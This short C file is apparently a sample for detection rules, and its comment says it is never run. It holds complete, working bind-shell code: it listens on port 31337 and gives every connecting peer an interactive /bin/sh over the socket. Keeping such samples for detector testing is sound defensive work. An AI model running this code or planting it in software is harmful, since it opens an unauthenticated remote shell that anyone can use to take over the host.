/* A bind shell: listen on a fixed port, and give each peer a shell whose standard
   streams are the accepted socket. Never run; the rules look at its imports and strings. */
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(31337)};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	bind(s, (struct sockaddr *)&a, sizeof a);
	listen(s, 1);
	for (;;) {
		int c = accept(s, 0, 0);
		if (fork() == 0) {
			dup2(c, 0); dup2(c, 1); dup2(c, 2);
			execl("/bin/sh", "sh", "-i", (char *)0);
		}
		close(c);
	}
}
